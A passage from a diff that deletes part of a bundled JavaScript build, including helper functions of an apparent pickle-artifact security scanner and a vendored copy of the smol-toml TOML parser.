-      ...analysis.imports.filter((i2) => i2.normalized === issue.global).map((i2) => [i2.offset, `${i2.opcode} ${i2.normalized}`]),
-      ...analysis.calls.filter((c) => c.callee === issue.global).map((c) => [c.offset, `${c.opcode} ${c.callee}(${c.args})`])
-    ];
-    rows.sort((a, b) => a[0] - b[0]);
-    for (const [at, text] of rows.slice(0, MAX_LISTING_LINES)) lines.push(`@${base + at}  ${text}`);
-  }
-  if (lines.length === 0) lines.push(`@${offset}  ${issue.global ?? issue.kind}`);
-  return lines.join("\n");
-}
-function join2(parent, child) {
-  if (child === void 0) return parent;
-  return parent ? `${parent}/${child}` : child;
-}
-function withoutArrayWrapperIssues(analysis, arraysLocated) {
-  if (!arraysLocated) return analysis;
-  const wrapper = /(^|\.)numpy_pickle\.NumpyArrayWrapper$/;
-  return { ...analysis, issues: analysis.issues.filter((issue) => !(issue.global && wrapper.test(issue.global))) };
-}
-function remapOffsets(analysis, map) {
-  return {
-    ...analysis,
-    imports: analysis.imports.map((i2) => ({ ...i2, offset: map(i2.offset) })),
-    calls: analysis.calls.map((c) => ({ ...c, offset: map(c.offset) })),
-    persistentIds: analysis.persistentIds.map((p) => ({ ...p, offset: map(p.offset) })),
-    issues: analysis.issues.map((i2) => i2.offset === void 0 ? i2 : { ...i2, offset: map(i2.offset) }),
-    nested: analysis.nested.map((n) => ({ ...n, offset: map(n.offset) })),
-    ...analysis.error ? { error: { ...analysis.error, offset: map(analysis.error.offset) } } : {}
-  };
-}
-
-// src/artifacts/index.ts
-function isArtifactCandidate(relPath, head) {
-  const lower = relPath.toLowerCase();
-  if (ARTIFACT_EXTENSIONS.some((ext) => lower.endsWith(ext))) return true;
-  if (head.length === 0) return false;
-  const format = sniffFormat(head);
-  if (format !== "unknown" && format !== "tar" && format !== "zlib") return true;
-  return looksLikeStrongPickle(head);
-}
-function looksLikeStrongPickle(head) {
-  return head[0] === 128 && head[1] !== void 0 && head[1] <= 5 && looksLikePickle(head);
-}
-
-// src/project/byte-source.ts
-import { open } from "node:fs/promises";
-var WHOLE_READ_LIMIT = 1024 * 1024;
-async function openFileByteSource(path) {
-  const handle2 = await open(path, "r");
-  try {
-    const { size } = await handle2.stat();
-    if (size <= WHOLE_READ_LIMIT) {
-      const bytes = await readWhole(handle2, size);
-      await handle2.close();
-      return {
-        size: bytes.length,
-        read: async (offset, length) => bytes.subarray(Math.max(0, offset), Math.max(0, offset) + Math.max(0, length)),
-        close: async () => {
-        }
-      };
-    }
-    let closed = false;
-    return {
-      size,
-      async read(offset, length) {
-        const start2 = Math.max(0, Math.min(offset, size));
-        const want = Math.max(0, Math.min(length, size - start2));
-        const buffer = new Uint8Array(want);
-        let got = 0;
-        while (got < want) {
-          const { bytesRead } = await handle2.read(buffer, got, want - got, start2 + got);
-          if (bytesRead === 0) break;
-          got += bytesRead;
-        }
-        return got === want ? buffer : buffer.subarray(0, got);
-      },
-      async close() {
-        if (closed) return;
-        closed = true;
-        await handle2.close();
-      }
-    };
-  } catch (error) {
-    await handle2.close();
-    throw error;
-  }
-}
-async function readWhole(handle2, size) {
-  const buffer = new Uint8Array(size);
-  let got = 0;
-  while (got < size) {
-    const { bytesRead } = await handle2.read(buffer, got, size - got, got);
-    if (bytesRead === 0) break;
-    got += bytesRead;
-  }
-  return got === size ? buffer : buffer.subarray(0, got);
-}
-
-// src/project/artifacts.ts
-var ARTIFACT_CONCURRENCY = 4;
-async function scanArtifactFiles(files, pickle, onScanned) {
-  const result2 = { findings: [], errors: [], scanned: 0 };
-  let next = 0;
-  const worker = async () => {
-    for (let i2 = next++; i2 < files.length; i2 = next++) {
-      const file = files[i2];
-      let source;
-      try {
-        source = await openFileByteSource(file.absPath);
-      } catch (e) {
-        const err2 = e;
-        result2.errors.push({ file: file.relPath, kind: "unreadable", level: "warning", message: `cannot read file: ${err2.code ?? err2.message}` });
-        continue;
-      }
-      try {
-        const head = await source.read(0, SNIFF_BYTES);
-        if (!isArtifactCandidate(file.relPath, head)) continue;
-        const scanned = await scanArtifact(source, file.relPath, pickle);
-        result2.findings.push(...scanned.findings);
-        result2.errors.push(...scanned.errors);
-        result2.scanned++;
-        onScanned?.();
-      } catch (e) {
-        result2.errors.push({ file: file.relPath, kind: "internal", level: "error", message: `internal error while scanning artifact: ${e.message}` });
-      } finally {
-        await source.close();
-      }
-    }
-  };
-  await Promise.all(Array.from({ length: Math.min(ARTIFACT_CONCURRENCY, files.length) }, worker));
-  return result2;
-}
-function splitRulesets(specs) {
-  if (specs.length === 0) return { python: [], runPython: true, artifactRules: [...ARTIFACT_RULES] };
-  const python = [];
-  const chosen = /* @__PURE__ */ new Map();
-  for (const raw of specs) {
-    const spec = raw.trim();
-    const [lang, name2] = spec.includes("/") ? spec.split("/", 2) : ["", spec];
-    const isArtifact = lang.toLowerCase() === "artifact" || lang === "" && /^PICKLE-ARTIFACT-/i.test(name2);
-    if (!isArtifact) {
-      python.push(raw);
-      continue;
-    }
-    const lower = name2.toLowerCase();
-    const matches = lower === "all" || lower === "artifacts" ? ARTIFACT_RULES : ARTIFACT_RULES.filter((r) => r.id.toLowerCase() === lower);
-    if (matches.length === 0) {
-      return { error: `unknown ruleset "${spec}" (artifact rulesets: artifact/all or artifact/<PICKLE-ARTIFACT-ID>)` };
-    }
-    for (const rule of matches) chosen.set(rule.id, rule);
-  }
-  return {
-    python,
-    runPython: python.length > 0,
-    artifactRules: [...chosen.values()].sort((a, b) => a.id.localeCompare(b.id))
-  };
-}
-
-// src/project/config.ts
-var import_picomatch = __toESM(require_picomatch2(), 1);
-import { readFileSync, statSync } from "node:fs";
-import { basename, dirname as dirname2, isAbsolute, join as join3, relative, resolve as resolve2, sep } from "node:path";
-
-// node_modules/smol-toml/dist/error.js
-function getLineColFromPtr(string, ptr) {
-  let lines = string.slice(0, ptr).split(/\r?\n/);
-  return [lines.length, lines.pop().length + 1];
-}
-function makeCodeBlock(string, line, column) {
-  let lines = string.split(/\r?\n/);
-  let codeblock = "";
-  let numberLen = (Math.log10(line + 1) | 0) + 1;
-  for (let i2 = line - 1; i2 <= line + 1; i2++) {
-    let l = lines[i2 - 1];
-    if (!l)
-      continue;
-    codeblock += i2.toString().padEnd(numberLen, " ");
-    codeblock += ":  ";
-    codeblock += l;
-    codeblock += "\n";
-    if (i2 === line) {
-      codeblock += " ".repeat(numberLen + column + 2);
-      codeblock += "^\n";
-    }
-  }
-  return codeblock;
-}
-var TomlError = class _TomlError extends Error {
-  line;
-  column;
-  codeblock;
-  constructor(message15, options) {
-    const [line, column] = getLineColFromPtr(options.toml, options.ptr);
-    const codeblock = makeCodeBlock(options.toml, line, column);
-    super(`Invalid TOML document: ${message15}
-
-${codeblock}`, options);
-    this.line = line;
-    this.column = column;
-    this.codeblock = codeblock;
-  }
-  /** @internal */
-  static x(message15, ctx, ptr) {
-    throw new _TomlError(message15, { toml: ctx.s, ptr: ptr ?? ctx.p });
-  }
-};
-
-// node_modules/smol-toml/dist/primitive.js
-function parseString(ctx) {
-  let startPtr = ctx.p;
-  let c = ctx.s.charCodeAt(ctx.p++);
-  let first = c;
-  let isLiteral = c === 39;
-  let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
-  if (isMultiline) {
-    if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 10)
-      ctx.p++;
-    else if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)
-      ctx.p += 2;
-  }
-  let parsed = "";
-  let sliceStart = ctx.p;
-  let state = 0;
-  for (; ctx.p < ctx.s.length; ctx.p++) {
-    c = ctx.s.charCodeAt(ctx.p);
-    if (isMultiline && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)) {
-      state = state && 3;
-    } else if (c < 32 && c !== 9 || c === 127) {
-      TomlError.x("control characters are not allowed in strings", ctx);
-    } else if ((!state || state === 3) && c === first && (!isMultiline || ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first)) {
-      if (isMultiline) {
-        if (ctx.s.charCodeAt(ctx.p + 3) === first)
-          ctx.p++;
-        if (ctx.s.charCodeAt(ctx.p + 3) === first)
-          ctx.p++;
-      }
-      if (!state) {
-        let s = ctx.s.slice(sliceStart, ctx.p);
-        parsed = parsed ? parsed + s : s;
-      }
-      ctx.p += isMultiline ? 3 : 1;
-      return parsed;
-    } else if (!state) {
-      if (!isLiteral && c === 92) {
-        parsed += ctx.s.slice(sliceStart, sliceStart = ctx.p);
-        state = 1;
-      }
-    } else if (state === 1) {
-      if (c === 120 || c === 117 || c === 85) {
-        let errPtr = ctx.p++ - 1;
-        let value = 0;
-        let len = c === 120 ? 2 : c === 117 ? 4 : 8;
-        for (let j = 0; j < len; j++, ctx.p++) {
-          let hex = ctx.s.charCodeAt(ctx.p);
-          let digit = (
-            /* 0-9 */
-            hex >= 48 && hex <= 57 ? hex - 48 : (
-              /* A-F */
-              hex >= 65 && hex <= 70 ? hex - 65 + 10 : (
-                /* a-f */
-                hex >= 97 && hex <= 102 ? hex - 97 + 10 : -1
-              )
-            )
-          );
-          if (digit < 0)
-            TomlError.x("invalid non-hex character in unicode escape", ctx);
-          value = value << 4 | digit;
-        }
-        if (value < 0 || value > 1114111 || value >= 55296 && value <= 57343) {
-          TomlError.x("invalid unicode escape", ctx, errPtr);
-        }
-        parsed += String.fromCodePoint(value);
-        sliceStart = ctx.p--;
-        state = 0;
-      } else if (isMultiline && (c === 32 || c === 9)) {
-        state = 2;
-      } else {
-        if (c === 98)
-          parsed += "\b";
-        else if (c === 116)
-          parsed += "	";
-        else if (c === 110)
-          parsed += "\n";
-        else if (c === 102)
-          parsed += "\f";
-        else if (c === 114)
-          parsed += "\r";
-        else if (c === 101)
-          parsed += "\x1B";
-        else if (c === 34)
-          parsed += '"';
-        else if (c === 92)
-          parsed += "\\";
-        else
-          TomlError.x("unrecognised escape sequence", ctx);
-        sliceStart = ctx.p + 1;
-        state = 0;
-      }
-    } else if (c !== 32 && c !== 9) {
-      if (state === 2)
-        TomlError.x("invalid escape: only line-ending whitespace may be escaped", ctx, sliceStart);
-      state = !isLiteral && c === 92 ? 1 : 0;
-      sliceStart = ctx.p;
-    }
-  }
-  TomlError.x("unfinished string", ctx, startPtr);
-}
-
-// node_modules/smol-toml/dist/date.js
-var DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
-var TomlDate = class _TomlDate extends Date {
-  #hasDate = false;
-  #hasTime = false;
-  #offset = null;
-  constructor(date, fasttype, unsafeDelim) {
-    let hasDate = true;
-    let hasTime = true;
-    let offset = "Z";
-    let c;
-    if (typeof date === "string") {
-      if (fasttype)
-        prep: {
-          if (fasttype < 3) {
-            if (+date.slice(11, 13) > 23) {
-              date = "";
-              break prep;
-            }
-            if (fasttype === 2) {
-              offset = null;
-              date += "Z";
-            } else if ((c = date.charCodeAt(date.length - 1)) !== 90 && c !== 122) {
-              offset = date.slice(date.length - 6);
-            }
-            if (unsafeDelim)
-              date = date.slice(0, 10) + "T" + date.slice(11);
-          } else if (fasttype === 4) {
-            date = +date.slice(0, 2) > 23 ? "" : `0000-01-01T${date}Z`;
-          }
-          hasDate = fasttype !== 4;
-          hasTime = fasttype !== 3;
-        }
-      else {
-        let match = date.match(DATE_TIME_RE);
-        if (match) {
-          if (!match[1]) {
-            hasDate = false;
-            date = `0000-01-01T${date}`;
-          }
-          hasTime = !!match[2];
-          hasTime && date[10] === " " && (date = date.replace(" ", "T"));
-          if (match[2] && +match[2] > 23) {
-            date = "";
-          } else {
-            offset = match[3] || null;
-            if (!offset && hasTime)
-              date += "Z";
-          }
-        } else {
-          date = "";
-        }
-      }
-    }
-    super(date);
-    if (!isNaN(this.getTime())) {
-      this.#hasDate = hasDate;
-      this.#hasTime = hasTime;
-      this.#offset = offset;
-    }
-  }
-  isDateTime() {
-    return this.#hasDate && this.#hasTime;
-  }
-  isLocal() {
-    return !this.#hasDate || !this.#hasTime || !this.#offset;
-  }
-  isDate() {
-    return this.#hasDate && !this.#hasTime;
-  }
-  isTime() {
-    return this.#hasTime && !this.#hasDate;
-  }
-  isValid() {
-    return this.#hasDate || this.#hasTime;
-  }
-  toISOString() {
-    let iso = super.toISOString();
-    if (this.isDate())
-      return iso.slice(0, 10);
-    if (this.isTime())
-      return iso.slice(11, 23);
-    if (this.#offset === null)
-      return iso.slice(0, -1);
-    if (this.#offset === "Z" || this.#offset === "z")
-      return iso;
-    let offset = +this.#offset.slice(1, 3) * 60 + +this.#offset.slice(4, 6);
-    offset = this.#offset[0] === "-" ? offset : -offset;
-    let offsetDate = new Date(this.getTime() - offset * 6e4);
-    return offsetDate.toISOString().slice(0, -1) + this.#offset;
-  }
-  static wrapAsOffsetDateTime(jsDate, offset = "Z") {
-    let date = new _TomlDate(jsDate);
-    date.#offset = offset;
-    return date;
-  }
-  static wrapAsLocalDateTime(jsDate) {
-    let date = new _TomlDate(jsDate);
-    date.#offset = null;
-    return date;
-  }
-  static wrapAsLocalDate(jsDate) {
-    let date = new _TomlDate(jsDate);
-    date.#hasTime = false;
-    date.#offset = null;
-    return date;
-  }
-  static wrapAsLocalTime(jsDate) {
-    let date = new _TomlDate(jsDate);
-    date.#hasDate = false;
-    date.#offset = null;
-    return date;
-  }
-};
-
-// node_modules/smol-toml/dist/extract.js
-function isDigit(char, base = 10) {
-  return base === 16 ? char > 47 && char < 58 || char > 64 && char < 71 || char > 96 && char < 103 : char > 47 && char < 48 + base;
-}
-function isEndOfValue(char, delim) {
-  return char === 32 || char === 9 || char === 10 || char === 13 || // Structure end or next value delimiter
-  delim && (char === delim || char === 44) || // Comment
-  char === 35;
-}
-function extractValue2(ctx, end) {
-  let errPtr = ctx.p;
-  let c = ctx.s.charCodeAt(ctx.p);
-  if (c === 91 || c === 123) {
-    ctx.d-- || TomlError.x("document contains excessively nested structures. aborting.", ctx);
-    let value = c === 91 ? parseArray(ctx) : parseInlineTable(ctx);
-    ctx.d++;
-    return value;
-  }
-  if (c === 34 || c === 39) {
-    return parseString(ctx);
-  }
-  if (c === 116) {
-    if (ctx.s.charCodeAt(++ctx.p) !== 114 || ctx.s.charCodeAt(++ctx.p) !== 117 || ctx.s.charCodeAt(++ctx.p) !== 101)
-      TomlError.x("invalid value", ctx, errPtr);
-    return ctx.p++, true;
-  }
-  if (c === 102) {
-    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 108 || ctx.s.charCodeAt(++ctx.p) !== 115 || ctx.s.charCodeAt(++ctx.p) !== 101)
-      TomlError.x("invalid value", ctx, errPtr);
-    return ctx.p++, false;
-  }
-  if (c === 43 || c === 45) {
-    return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 44 - c, end);
-  }
-  if (ctx.s.charCodeAt(ctx.p + 4) === 45 && ctx.s.charCodeAt(ctx.p + 7) === 45) {
-    return parseDate(ctx, c, end);
-  }
-  if (ctx.s.charCodeAt(ctx.p + 2) === 58) {
-    return parseTime(ctx, c, end);
-  }
-  return parseNumber(ctx, ctx.p, c, 0, end);
-}
-function parseNumber(ctx, startPtr, startChr, sign, endChr) {
-  let c = startChr;
-  let state = 0;
-  let hasUnderscores = false;
-  if (c === 105) {
-    if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102)
-      TomlError.x("invalid value", ctx, startPtr);
-    return ctx.p++, (sign || 1) / 0;
-  }
-  if (c === 110) {
-    if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110)
-      TomlError.x("invalid value", ctx, startPtr);
-    return ctx.p++, NaN;
-  }
-  if (c === 48) {
-    if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
-      return ctx.bi === true ? 0n : 0;
-    if (!sign) {
-      if (c === 120)
-        return parseIntegerBaseN(ctx, startPtr, 16, endChr);
-      else if (c === 98)
-        return parseIntegerBaseN(ctx, startPtr, 2, endChr);
-      else if (c === 111)
-        return parseIntegerBaseN(ctx, startPtr, 8, endChr);
-    }
-    if (c === 46)
-      state = 2;
-    else if (c === 101 || c === 69)
-      state = 4;
-    else
-      TomlError.x("illegal leading zero", ctx, startPtr);
-  } else if (!isDigit(c))
-    TomlError.x("invalid value", ctx, startPtr);
-  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
-    if (!state)
-      state = 1;
-    if (c === 95) {
-      if (!(state & 1))
-        TomlError.x("illegal underscore", ctx);
-      state += 11;
-      hasUnderscores = true;
-    } else if (state === 1 && c === 46)
-      state = 2;
-    else if ((state === 1 || state === 3) && (c === 101 || c === 69))
-      state = 4;
-    else if (state === 4 && (c === 43 || c === 45)) {
-      state = 6;
-    } else if (!isDigit(c))
-      TomlError.x(`illegal character in numeric literal`, ctx);
-    else if (state > 9)
-      state -= 11;
-    else if (!(state & 1))
-      state++;
-  }
-  if (!state) {
-    let val = (startChr - 48) * (sign || 1);
-    return ctx.bi === true ? BigInt(val) : val;
-  }
-  if (!(state & 1))
-    TomlError.x("unfinished numeric value", ctx, startPtr);
-  let str = ctx.s.slice(startPtr, ctx.p);
-  if (hasUnderscores)
-    str = str.replaceAll("_", "");
-  return state > 1 ? parseFloat(str) : parseInteger(ctx, str, 10, startPtr);
-}
-function parseIntegerBaseN(ctx, startPtr, base, endChr) {
-  let c, underscore = 1;
-  while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
-    if (c === 95) {
-      if (underscore & 1)
-        TomlError.x("illegal underscore", ctx);
-      underscore = 3;
-    } else if (!isDigit(c, base))
-      TomlError.x(`illegal character in numeric literal`, ctx);
-    else if (underscore & 1)
-      underscore--;
-  }
-  if (underscore & 1)
-    TomlError.x("unfinished numeric value", ctx);
-  let str = ctx.s.slice(startPtr + 2, ctx.p);
-  if (underscore)
-    str = str.replaceAll("_", "");
-  return parseInteger(ctx, str, base, startPtr);
-}
-function parseInteger(ctx, str, base, startPtr) {
-  if (ctx.bi !== true)
-    int: {
-      let val = parseInt(str, base);
-      if (!Number.isSafeInteger(val)) {
-        if (ctx.bi)
-          break int;
-        TomlError.x("integer value cannot be represented losslessly", ctx, startPtr);
-      }
-      return val;
-    }
-  return base === 10 ? BigInt(str) : BigInt((base === 2 ? "0b" : base === 8 ? "0o" : "0x") + str);
-}
-function parseDate(ctx, c, endChr) {
-  let startPtr = ctx.p++, unsafeSeparator;
-  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++))) {
-    return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
-  }
-  ctx.p += 5;
-  if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
-    TomlError.x("invalid date-time: date part is malformed", ctx, startPtr);
-  if (ctx.p >= ctx.s.length || ((c = ctx.s.charCodeAt(ctx.p)) !== 32 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 84 && c !== 116) {
-    let t2 = ctx.s.slice(startPtr, ctx.p);
-    return readDate(ctx, t2, 3, false, startPtr);
-  }
-  if (ctx.s.charCodeAt(ctx.p += 3) !== 58)
-    TomlError.x("invalid date-time: time part is malformed", ctx, startPtr);
-  if (ctx.s.charCodeAt(ctx.p += 3) === 58)
-    ctx.p += 3;
-  if (ctx.s.charCodeAt(ctx.p) === 46)
-    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
-      ;
-  if (c = ctx.s.charCodeAt(ctx.p)) {
-    if (c === 90 || c === 122) {
-      let t2 = ctx.s.slice(startPtr, ++ctx.p);
-      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, "[+00:00]");
-    }
-    if (c === 43 || c === 45) {
-      let t2 = ctx.s.slice(startPtr, ctx.p += 6);
-      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, !ctx.ld && "[" + ctx.s.slice(ctx.p - 6, ctx.p) + "]");
-    }
-  }
-  let t = ctx.s.slice(startPtr, ctx.p);
-  return readDate(ctx, t, 2, unsafeSeparator, startPtr);
-}
-function parseTime(ctx, c, endChr) {
-  let start2 = ctx.p;
-  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
-    return parseNumber(ctx, --ctx.p, c, 0, endChr);
-  }
-  if (ctx.s.charCodeAt(ctx.p += 4) === 58)
-    ctx.p += 3;
-  if (ctx.s.charCodeAt(ctx.p) === 46)
-    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
-      ;
-  let t = ctx.s.slice(start2, ctx.p);
-  return readDate(ctx, t, 4, false, start2);
-}
-function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
-  if (ctx.ld) {
-    let date = new TomlDate(str, type, unsafeDelim);
-    if (!date.isValid())
-      TomlError.x("invalid date", ctx, errPtr);
-    return date;
-  }
-  try {
-    if (temporalSuffix)
-      str += temporalSuffix;
-    switch (type) {
-      case 1:
-        return Temporal.ZonedDateTime.from(str);
-      case 2:
-        return Temporal.PlainDateTime.from(str);
-      case 3:
-        return Temporal.PlainDate.from(str);
-      case 4:
-        return Temporal.PlainTime.from(str);
-    }
-  } catch (e) {
-    TomlError.x(e instanceof Error ? e.message : "" + e, ctx, errPtr);
-  }
-}
-
-// node_modules/smol-toml/dist/util.js
-function skipComment(ctx) {
-  for (; ctx.p < ctx.s.length; ctx.p++) {
-    let c = ctx.s.charCodeAt(ctx.p);
-    if (c === 10)
-      break;
-    if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) {
-      ctx.p++;
-      break;
-    }
-    if (c < 32 && c !== 9 || c === 127) {
-      TomlError.x("control characters are not allowed in comments", ctx);
-    }
-  }
-}
-function skipVoid(ctx, banNewLines, banComments) {
-  let c;
-  while (ctx.p < ctx.s.length) {
-    while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 32 || c === 9 || !banNewLines && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)))
-      ctx.p++;
-    if (banComments || c !== 35)
-      break;
-    skipComment(ctx);
-  }
-}
-
-// node_modules/smol-toml/dist/struct.js
-function parseKey(ctx, end = 61) {
-  let startPtr;
-  let state = 0;
-  let parsed = [];
-  let sliceStart;
-  let c = ctx.s.charCodeAt(startPtr = ctx.p);
-  do {
-    if (c === end) {
-      if (!state)
-        TomlError.x("unexpected end of key", ctx);
-      if (state === 1)
-        parsed.push(ctx.s.slice(sliceStart, ctx.p));
-      return ctx.p++, parsed;
-    } else if (c === 46) {
-      if (!state)
-        TomlError.x("illegal empty bare key", ctx);
-      if (state === 1)
-        parsed.push(ctx.s.slice(sliceStart, ctx.p));
-      state = 0;
-    } else if (!state && (c === 34 || c === 39)) {
-      if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
-        TomlError.x("illegal quoted key: multiline strings are not allowed", ctx);
-      parsed.push(parseString(ctx));
-      state = 2;
-      ctx.p--;
-    } else if (c === 32 || c === 9) {
-      if (state === 1) {
-        parsed.push(ctx.s.slice(sliceStart, ctx.p));
-        state = 2;
-      }
-    } else if (state === 2 || c < 48 && c !== 45 || c > 57 && c < 65 || c > 90 && c < 97 && c !== 95 || c > 122) {
-      TomlError.x("illegal character in key", ctx);
-    } else if (!state) {
-      state = 1;
-      sliceStart = ctx.p;
-    }
-  } while (c = ctx.s.charCodeAt(++ctx.p));
-  TomlError.x("incomplete key-value: cannot find end of key", ctx, startPtr);
-}
-function parseInlineTable(ctx) {
-  let startPtr = ctx.p++;
-  let res = /* @__PURE__ */ Object.create(null);
-  let seen = /* @__PURE__ */ new Set();
-  let c;
-  while (ctx.p < ctx.s.length) {
-    skipVoid(ctx);
-    if ((c = ctx.s.charCodeAt(ctx.p)) === 125) {
-      ctx.p++;
-      return res;
-    }
-    let k;
-    let t = res;
-    let hasOwn = false;
-    let errPtr = ctx.p;
-    let key = parseKey(ctx);
-    for (let i2 = 0; i2 < key.length; i2++) {
-      if (i2)
-        t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
-      k = key[i2];
-      if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== "object" || seen.has(t[k]))) {
-        TomlError.x("trying to redefine an already defined value", ctx, errPtr);
-      }
-      let unsafe = k === "__proto__";
-      if (ctx.uk && (unsafe || k === "constructor")) {
-        t = ctx.uk !== 1 && TomlError.x("document contains an unsafe property", ctx, errPtr);
-        break;
-      }
-      if (!hasOwn && unsafe) {
-        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
-      }
-    }
-    if (hasOwn) {
-      TomlError.x("trying to redefine an already defined value", ctx, errPtr);
-    }
-    skipVoid(ctx, true, true);
-    let value = extractValue2(
-      ctx,
-      125
-      /* } */
-    );
-    if (t && typeof (t[k] = value) === "object")
-      seen.add(value);
-    skipVoid(ctx);
-    if ((c = ctx.s.charCodeAt(ctx.p++)) === 125) {
-      return res;
-    }
-    if (c !== 44)
-      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
-  }
-  TomlError.x("unfinished table", ctx, startPtr);
-}
-function parseArray(ctx) {
-  let startPtr = ctx.p++;
-  let res = [];
-  let c;
-  while (ctx.p < ctx.s.length) {
-    skipVoid(ctx);
-    if ((c = ctx.s.charCodeAt(ctx.p)) === 93) {
-      ctx.p++;
-      return res;
-    }
-    res.push(extractValue2(
-      ctx,
-      93
-      /* ] */
-    ));
-    skipVoid(ctx);
-    if ((c = ctx.s.charCodeAt(ctx.p++)) === 93) {
-      return res;
-    }
-    if (c !== 44)
-      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
-  }
-  TomlError.x("unfinished array", ctx, startPtr);
-}
-
-// node_modules/smol-toml/dist/parse.js
-function peekTable(ctx, key, table, meta, type) {
-  let t = table;
-  let m = meta;
-  let k;
-  let hasOwn = false;
-  let state;
-  for (let i2 = 0; i2 < key.length; i2++) {
-    if (i2) {
-      t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
-      m = (state = m[k]).c;
-      if (type === 0 && (state.t === 1 || state.t === 2)) {
-        return null;
-      }
-      if (state.t === 2) {
-        let l = t.length - 1;
-        t = t[l];
-        m = m[l].c;
-      }
-    }
-    k = key[i2];
-    if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 && m[k]?.d) {
-      return null;
-    }
-    if (!hasOwn) {
-      let unsafe = k === "__proto__";
-      if (ctx.uk && (unsafe || k === "constructor"))
-        return false;
-      if (unsafe) {
-        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
-        Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
-      }
-      m[k] = {
-        t: i2 < key.length - 1 && type === 2 ? 3 : type,
-        d: false,
-        i: 0,
-        c: /* @__PURE__ */ Object.create(null)
-      };
-    }
-  }
-  state = m[k];
-  if (state.t !== type && !(type === 1 && state.t === 3)) {
-    return null;
-  }
-  if (type === 2) {
-    if (!state.d) {
-      state.d = true;
-      t[k] = [];
-    }
-    t[k].push(t = /* @__PURE__ */ Object.create(null));
-    state.c[state.i++] = state = { t: 1, d: false, i: 0, c: /* @__PURE__ */ Object.create(null) };
-  }
-  if (state.d) {
-    return null;
-  }
-  state.d = true;
-  if (type === 1) {
-    t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
-  } else if (type === 0 && hasOwn) {
-    return null;
-  }
-  return [k, t, state.c];
-}
-function validateTablePeek(ctx, peek, ptr) {
-  if (peek === null || ctx.uk === 2)
-    TomlError.x(peek === null ? "trying to redefine an already defined table or value" : "document contains an unsafe property", ctx, ptr);
-}
-function parse(toml, options = {}) {
-  let ctx = {
-    s: toml,
-    p: 0,
-    d: options.maxDepth ?? 1e3,
-    bi: options.integersAsBigInt ?? false,
-    ld: options.useLegacyDate ?? true,
-    uk: options.unsafeKeyBehaviour === "throw" ? 2 : options.unsafeKeyBehaviour === "drop" ? 1 : 0
-  };
-  let res = /* @__PURE__ */ Object.create(null);
-  let meta = /* @__PURE__ */ Object.create(null);
-  let tmp;
-  let skipping = false;
-  let tbl = res;
-  let m = meta;
-  if (toml.charCodeAt(0) === 65279)
-    ctx.p++;
-  skipVoid(ctx);
-  while (ctx.p < toml.length) {
-    if (toml.charCodeAt(ctx.p) === 91) {
-      let isTableArray = toml.charCodeAt(++ctx.p) === 91;
-      tmp = ctx.p += +isTableArray;
-      skipping = false;
-      let k = parseKey(
-        ctx,
-        93
-        /* ] */
-      );
-      if (isTableArray) {
-        if (toml.charCodeAt(ctx.p) !== 93) {
-          TomlError.x("expected end of table array declaration", ctx);
-        }
-        ctx.p++;
-      }
-      let p = peekTable(
-        ctx,
-        k,
-        res,
-        meta,
-        isTableArray ? 2 : 1
-        /* Type.EXPLICIT */
-      );
-      if (!p) {
-        validateTablePeek(ctx, p, tmp);
-        skipping = true;
-      } else {
-        m = p[2];
-        tbl = p[1];
-      }
-    } else {
-      tmp = ctx.p;
-      let k = parseKey(ctx);
-      let p = peekTable(
-        ctx,
-        k,
-        tbl,
-        m,
-        0
-        /* Type.DOTTED */
-      );
-      if (!p && !skipping)
-        validateTablePeek(ctx, p, tmp);
-      skipVoid(ctx, true, true);
-      let v = extractValue2(ctx, void 0);
-      if (p && !skipping)
-        p[1][p[0]] = v;
-    }
-    skipVoid(ctx, true);
